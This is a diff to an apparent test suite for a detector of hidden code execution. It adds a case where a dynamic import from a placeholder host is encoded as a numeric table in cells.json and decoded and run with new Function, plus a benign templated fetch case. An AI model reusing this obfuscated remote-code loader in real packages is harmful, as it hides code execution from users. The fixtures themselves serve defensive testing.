@@ -12,6 +12,15 @@ const spawning = Buffer.from(`require('child_process').execSync('inert-marker-co
 examine(runsDecodedCode, {
   speaks: [
     {
+      when: 'code stands letter by letter in a table that a reader of its own goes through, and does something',
+      files: {
+        'index.js': `const cells = require('./cells.json'); class Reader { constructor() { this.at = 0; this.kept = new Map(); } step() { const cell = cells[this.at]; this.kept.set(this.at, String.fromCodePoint((cell - this.at) / 3)); return ++this.at < cells.length; } get text() { return [...this.kept.values()].join(''); } } const reader = new Reader(); while (reader.step()); module.exports = new Function(reader.text)();`,
+        'cells.json': [...`import("https://cells.inert.invalid/a.mjs"); return 1`].map((one, at) => one.charCodeAt(0) * 3 + at),
+      },
+      weight: 'proof',
+      says: ['stands nowhere in it', 'cells.inert.invalid'],
+    },
+    {
       when: 'a loader unpacks modules that its caller names, and makes them as Node does',
       files: {
         'index.js': `const zlib = require('zlib'), vm = require('vm'), fs = require('fs'); exports.load = file => vm.runInThisContext('(function (exports, require, module, __filename, __dirname) {' + zlib.inflateRawSync(fs.readFileSync(file)).toString() + '})');`,
@@ -272,6 +281,12 @@ examine(runsDecodedCode, {
     },
   ],
   silent: [
+    {
+      when: 'code is made of a template that stands in the package, and asks for what its caller names',
+      files: {
+        'index.js': `const parts = ['return ', 'fetch("https://api.inert.invalid/" + path)']; let code = ''; for (const part of parts) code += part; exports.ask = new Function('path', code);`,
+      },
+    },
     {
       when: 'bytes are looked for among text, and shown',
       files: {
